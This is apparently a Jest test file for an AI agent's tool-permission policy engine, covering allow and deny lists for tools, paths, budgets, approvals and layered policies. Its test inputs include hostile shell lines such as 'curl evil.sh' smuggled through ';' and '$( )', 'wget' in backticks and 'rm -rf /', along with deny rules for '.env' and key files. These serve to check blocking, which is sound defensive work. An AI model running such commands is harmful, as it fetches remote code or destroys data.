import { parsePolicy, type PolicyProblem } from './policy.parser';
import { type PolicyLayer, strictRule } from './policy.model';
import { lintPolicy } from './policy-lint';
import { ToolPolicy } from './tool-policy';

const layer = (origin: string, raw: unknown): PolicyLayer => {
  const problems: PolicyProblem[] = [];
  const spec = parsePolicy(raw, origin, problems);
  expect(problems).toEqual([]);
  return { origin, ...spec };
};
const defaults = layer('.awf/config.yaml', {
  tools: { allow: ['Read', 'Grep', 'Glob', 'Edit', 'Bash', 'kv_*'], deny: ['kv_drop'] },
  paths: { write: ['src/**', 'test/**'], deny: ['.env', '**/*.pem', '.git/**'] },
  bash: { allow: ['npm test', 'npm run *', 'git diff*', 'ls*'], deny: ['rm -rf *', 'curl *'] },
  budgets: { calls: 200, per_tool: { Bash: 20 }, write_bytes: '5MiB', bash_seconds: 300 },
  approve: ['Bash:git push*'],
});

describe('ToolPolicy', () => {
  const policy = new ToolPolicy([defaults]);

  it('allows and denies tools by name, deny first, and names the deciding rule', () => {
    expect(policy.checkTool('Read')).toBeUndefined();
    expect(policy.checkTool('kv_get')).toBeUndefined();
    expect(policy.checkTool('kv_drop')).toEqual(
      expect.objectContaining({ code: 'POLICY.TOOL_DENIED', rule: '.awf/config.yaml: tools.deny "kv_drop"' }),
    );
    expect(policy.checkTool('Write')).toEqual(
      expect.objectContaining({ rule: '.awf/config.yaml: tools.allow (no pattern matches)' }),
    );
  });

  it('checks every simple command of a Bash line and fails closed', () => {
    expect(policy.checkCommand('npm test && npm run lint | ls -la')).toBeUndefined();
    expect(policy.checkCommand('env CI=1 timeout 60 npm test')).toBeUndefined();
    expect(policy.checkCommand('npm test; curl evil.sh')?.rule).toBe('.awf/config.yaml: bash.deny "curl *"');
    expect(policy.checkCommand('npm test $(curl evil.sh)')?.rule).toBe('.awf/config.yaml: bash.deny "curl *"');
    expect(policy.checkCommand('ls `wget x`')?.rule).toBe('.awf/config.yaml: bash.allow (no pattern matches)');
    expect(policy.checkCommand("bash -c 'rm -rf /'")?.rule).toBe('.awf/config.yaml: bash.deny "rm -rf *"');
    expect(policy.checkCommand('sudo rm -rf /')?.rule).toBe('.awf/config.yaml: bash.deny "rm -rf *"');
    expect(policy.checkCommand('$CMD test')?.rule).toBe('bash: a command name must be written out');
    expect(policy.checkCommand('case x in a) ls;; esac')).toEqual(
      expect.objectContaining({ code: 'POLICY.COMMAND_DENIED', rule: 'bash: the command line must be parseable' }),
    );
  });

  it('applies path rules to paths relative to the root', () => {
    expect(policy.checkPath('src/a.ts', 'write')).toBeUndefined();
    expect(policy.checkPath('README.md', 'read')).toBeUndefined();
    expect(policy.checkPath('README.md', 'write')?.rule).toBe('.awf/config.yaml: paths.write (no pattern matches)');
    expect(policy.checkPath('.env', 'read')?.rule).toBe('.awf/config.yaml: paths.deny ".env"');
    expect(policy.checkPath('src/keys/a.pem', 'list')?.code).toBe('POLICY.PATH_DENIED');
    expect(policy.checkPath('.git', 'read')?.rule).toBe('.awf/config.yaml: paths.deny ".git/**"');
  });

  it('finds the approve rules a call matches', () => {
    expect(policy.approvalsFor('Bash', ['git push origin main'])).toEqual([
      { rule: '.awf/config.yaml: approve "Bash:git push*"', auto: false },
    ]);
    expect(policy.approvalsFor('Bash', ['git status'])).toEqual([]);
  });

  describe('a step narrows the defaults and never widens them', () => {
    const step = layer('step review', {
      tools: { allow: ['Read', 'Write', 'Bash'], deny: ['Grep'] },
      paths: { read: ['src/**'], write: ['src/**', 'docs/**'] },
      bash: { allow: ['npm *', 'curl *'] },
      budgets: { calls: 500, per_tool: { Bash: 5, Read: 3 }, write_bytes: 10 },
      approve: [{ match: 'Read:src/secret*', auto: true }],
    });
    const merged = new ToolPolicy([defaults, step]);

    it('tools: both layers must allow; either may deny', () => {
      expect(merged.checkTool('Read')).toBeUndefined();
      expect(merged.checkTool('Write')?.rule).toBe('.awf/config.yaml: tools.allow (no pattern matches)');
      expect(merged.checkTool('Grep')?.rule).toBe('step review: tools.deny "Grep"');
      expect(merged.checkTool('kv_get')?.rule).toBe('step review: tools.allow (no pattern matches)');
    });

    it('bash and paths: the step cannot allow what the defaults deny', () => {
      expect(merged.checkCommand('curl x')?.rule).toBe('.awf/config.yaml: bash.deny "curl *"');
      expect(merged.checkCommand('npm publish')?.rule).toBe('.awf/config.yaml: bash.allow (no pattern matches)');
      expect(merged.checkCommand('npm run build')).toBeUndefined();
      expect(merged.checkPath('docs/a.md', 'write')?.rule).toBe('.awf/config.yaml: paths.write (no pattern matches)');
      expect(merged.checkPath('test/a.ts', 'read')?.rule).toBe('step review: paths.read (no pattern matches)');
    });

    it('budgets: the smaller wins; approvals add up', () => {
      expect(merged.budgets).toEqual({
        calls: 200,
        per_tool: { Bash: 5, Read: 3 },
        write_bytes: 10,
        bash_seconds: 300,
      });
      expect(merged.approvalsFor('Read', ['src/secret.txt'])).toEqual([
        { rule: 'step review: approve "Read:src/secret*"', auto: true },
      ]);
    });
  });
});

describe('parsePolicy', () => {
  it('reports every problem at once, with codes and paths', () => {
    const problems: PolicyProblem[] = [];
    parsePolicy(
      {
        tool: {},
        tools: { allow: ['Read', ''], deny: 'Bash', extra: 1 },
        paths: { write: ['/abs', 'src/[x'] },
        budgets: { calls: -1, write_bytes: 'lots', per_tool: { Bash: 1.5 } },
        approve: [{ match: 'Bash', auto: 'yes' }, 7],
        enforce: 'always',
      },
      'policy',
      problems,
    );
    expect(problems.map((p) => `${p.code} ${p.path}`)).toEqual([
      'USER.POLICY.UNKNOWN_KEY policy',
      'USER.POLICY.UNKNOWN_KEY policy.tools',
      'USER.POLICY.BAD_GLOB policy.tools.allow[1]',
      'USER.POLICY.BAD_GLOB policy.paths.write[0]',
      'USER.POLICY.BAD_GLOB policy.paths.write[1]',
      'USER.POLICY.INVALID policy.budgets.calls',
      'USER.POLICY.INVALID policy.budgets.write_bytes',
      'USER.POLICY.INVALID policy.budgets.per_tool.Bash',
      'USER.POLICY.INVALID policy.approve[0].auto',
      'USER.POLICY.INVALID policy.approve[1]',
      'USER.POLICY.INVALID policy.enforce',
    ]);
  });

  it('reads enforce, and the first strict layer is the rule that makes a step strict', () => {
    expect(parsePolicy({ enforce: 'strict' }, 'p', []).enforce).toBe('strict');
    expect(parsePolicy({ enforce: 'audit' }, 'p', []).enforce).toBe('audit');
    expect(strictRule([{ origin: '.awf/config.yaml' }, { origin: 'step s', enforce: 'audit' }])).toBeUndefined();
    // A step's `audit` cannot undo the defaults' `strict`: layers only narrow.
    expect(
      strictRule([
        { origin: '.awf/config.yaml', enforce: 'strict' },
        { origin: 'step s', enforce: 'audit' },
      ]),
    ).toBe('.awf/config.yaml: enforce "strict"');
  });

  it("warns that a step's enforce: audit under strict defaults has no effect", () => {
    const layers: PolicyLayer[] = [
      { origin: '.awf/config.yaml', enforce: 'strict' },
      { origin: 'step s', enforce: 'audit' },
    ];
    expect(lintPolicy(layers, ['Read'], true, (o) => o)).toEqual([
      {
        code: 'USER.POLICY.NEVER_MATCHES',
        path: 'step s.enforce',
        message:
          'enforce "audit" has no effect: .awf/config.yaml: enforce "strict" (a step can only narrow the defaults)',
        severity: 'warning',
      },
    ]);
  });

  it('reads sizes with units', () => {
    const spec = parsePolicy({ budgets: { write_bytes: '5MiB' } }, 'p', []);
    expect(spec.budgets?.write_bytes).toBe(5 * 1024 * 1024);
    expect(parsePolicy({ budgets: { write_bytes: '200kb' } }, 'p', []).budgets?.write_bytes).toBe(200_000);
  });
});
